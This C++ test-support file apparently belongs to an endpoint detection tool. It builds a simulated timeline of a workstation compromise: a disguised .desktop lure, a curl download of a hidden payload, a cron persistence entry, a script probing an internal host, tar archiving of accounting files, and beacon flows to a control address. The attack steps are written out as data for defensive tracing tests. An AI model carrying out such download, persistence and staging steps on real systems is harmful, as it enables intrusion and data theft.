// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/support/office_history.h"

#include "tests/support/fake_event_store.h"

#include <algorithm>
#include <cstdlib>

namespace metsuke::fake {

namespace {

using namespace endpoint;

constexpr const char* kKeiri = "10.20.0.57";
constexpr const char* kControl = "198.51.100.23";

class Recorder {
public:
    void tell(Timestamp time, ProcessUid process, ActivityBody body, const std::string& source = "ebpf") {
        m_activities.push_back({time, process, source, std::move(body)});
    }
    ProcessUid started(Timestamp time, int64_t pid, ProcessUid parent, bool wasRunning = false) {
        const ProcessUid process = processUid("keiri-07", "boot", pid, time.ns);
        ProcessStarted body;
        body.parent = parent;
        body.pid = pid;
        body.uid = pid < 1000 ? 0 : 1001;
        body.wasRunning = wasRunning;
        body.workingFolder = pid < 1000 ? "/" : "/home/tanaka";
        tell(time, process, body, wasRunning ? "snapshot" : "ebpf");
        return process;
    }
    void image(Timestamp time, ProcessUid process, const std::string& path, std::vector<std::string> arguments, FileId file = {}, const std::string& sha256 = {}) {
        ImageStarted body;
        body.path = path;
        body.arguments = std::move(arguments);
        body.file = file;
        body.sha256 = sha256;
        body.package = path.starts_with("/usr/") ? path.substr(path.rfind('/') + 1) : "";
        tell(time, process, body);
    }
    ProcessUid program(Timestamp time, int64_t pid, ProcessUid parent, const std::string& path, std::vector<std::string> arguments = {}, FileId file = {}) {
        const ProcessUid process = started(time, pid, parent, time == at(8, 30));
        image(time, process, path, arguments.empty() ? std::vector{path} : std::move(arguments), file);
        return process;
    }
    void flow(ProcessUid process, const FlowRow& row) {
        Connected body;
        body.protocol = row.proto;
        body.local = row.orig;
        body.remote = row.resp;
        body.localPort = row.origPort;
        body.remotePort = row.respPort;
        body.closed = row.ts + static_cast<Duration>(row.duration * 1e9);
        body.bytesSent = row.origBytes;
        body.bytesReceived = row.respBytes;
        body.name = row.name;
        tell(row.ts + 200 * kMillisecond, process, body); // the computer's clock is a little ahead
    }
    void file(Timestamp time, ProcessUid process, const std::string& path, FileId id, int64_t size) {
        FileChanged body;
        body.path = path;
        body.file = id;
        body.size = size;
        tell(time, process, body, "fanotify");
    }
    std::vector<Activity> finish() {
        std::stable_sort(m_activities.begin(), m_activities.end(), [](const Activity& a, const Activity& b) { return a.time < b.time; });
        return std::move(m_activities);
    }

private:
    std::vector<Activity> m_activities;
};

std::vector<Activity> activities() {
    Recorder r;
    const Timestamp boot = at(8, 30);
    const FileId lure{8, 4001};
    const FileId payload{8, 4002};
    const ProcessUid init = r.program(boot, 1, {}, "/usr/lib/systemd/systemd");
    const ProcessUid shell = r.program(boot, 2101, init, "/usr/bin/gnome-shell");
    const ProcessUid nautilus = r.program(boot, 2204, shell, "/usr/bin/nautilus");
    const ProcessUid mail = r.program(at(9, 0, 51), 4120, shell, "/usr/bin/thunderbird");
    const ProcessUid firefox = r.program(at(9, 1, 57), 4188, mail, "/usr/bin/firefox", {"firefox", "http://mitsumori-share.example/q/2026-1117.html"});
    r.file(at(9, 2, 20), firefox, "/home/tanaka/Downloads/mitsumori_20261117.pdf.desktop", lure, 612);
    const ProcessUid launcher = r.program(at(9, 2, 29), 5096, nautilus, "/usr/bin/sh", {"sh", "/home/tanaka/Downloads/mitsumori_20261117.pdf.desktop"}, {8, 11});
    const ProcessUid curl = r.program(at(9, 2, 30.9), 5101, launcher, "/usr/bin/curl",
        {"curl", "-so", "/home/tanaka/.cache/.update", "http://mitsumori-share.example/dl/mitsumori_20261117.pdf"}, {8, 12});
    r.file(at(9, 2, 33), curl, "/home/tanaka/.cache/.update", payload, 391'204);
    r.tell(at(9, 2, 33.2), curl, ProcessEnded{});
    r.program(at(9, 2, 35), 5124, launcher, "/usr/bin/evince", {"evince", "/tmp/mitsumori.pdf"}, {8, 13});
    const ProcessUid update = r.started(at(9, 2, 36), 5127, launcher);
    r.image(at(9, 2, 36), update, "/home/tanaka/.cache/.update", {"/home/tanaka/.cache/.update", "--quiet"}, payload,
        "9f3c08d1b7e64a52c09d5b1f7a2e83c46d90f1a25e7c3b8844d1f6077b2e1a70");
    PersistenceChanged cron;
    cron.kind = "cron";
    cron.path = "/etc/cron.d/upd";
    cron.entry = "*/15 * * * * tanaka /home/tanaka/.cache/.update";
    cron.command = "/home/tanaka/.cache/.update";
    r.tell(at(9, 2, 40), update, cron, "fanotify");
    const ProcessUid child = r.program(at(10, 40, 2), 6011, update, "/usr/bin/sh", {"sh", "-c", "python3 /tmp/.s.py 10.20.0.10"}, {8, 11});
    r.file(at(10, 39, 58), update, "/tmp/.s.py", {9, 77}, 8'112);
    const ProcessUid python = r.program(at(10, 40, 5), 6014, child, "/usr/bin/python3", {"python3", "/tmp/.s.py", "10.20.0.10"}, {8, 14});
    const ProcessUid tar = r.program(at(12, 6, 10), 6390, update, "/usr/bin/tar", {"tar", "czf", "/tmp/.k.tgz", "/home/tanaka/keiri"}, {8, 15});
    r.file(at(12, 7, 40), tar, "/tmp/.k.tgz", {9, 78}, 412'000'000);
    r.tell(at(12, 7, 41), tar, ProcessEnded{});
    r.tell(at(11, 2, 10), {}, Gap{"network", at(11, 2, 14), 12, "ring"});
    for (const FlowRow& flow : makeFlows()) {
        const std::string to = flow.resp.toString();
        if (flow.orig.toString() != kKeiri || flow.rules.empty()) {
            if (flow.orig.toString() == kKeiri && to == "203.0.113.44") {
                r.flow(firefox, flow);
            }
            continue;
        }
        r.flow(to == "203.0.113.44" ? curl : to == "10.20.0.10" ? python : update, flow);
    }
    return r.finish();
}

} // namespace

void writeOfficeHistory(const std::filesystem::path& folder) {
    auto writer = HistoryWriter::open(folder, {}, at(8, 30));
    if (!writer.ok()) {
        std::abort(); // of a test: nothing to go on with
    }
    for (Activity& activity : activities()) {
        if (!(*writer)->append(std::move(activity)).ok()) {
            std::abort();
        }
    }
    if (!(*writer)->commit().ok()) {
        std::abort();
    }
}

TraceQuestion officeBeacon() {
    TraceQuestion question;
    for (const FlowRow& flow : makeFlows()) {
        if (flow.orig.toString() == kKeiri && flow.resp.toString() == kControl) {
            question.time = flow.ts;
            question.local = flow.orig;
            question.localPort = flow.origPort;
            question.remote = flow.resp;
            question.remotePort = flow.respPort;
            question.name = flow.name;
        }
    }
    return question;
}

} // namespace metsuke::fake
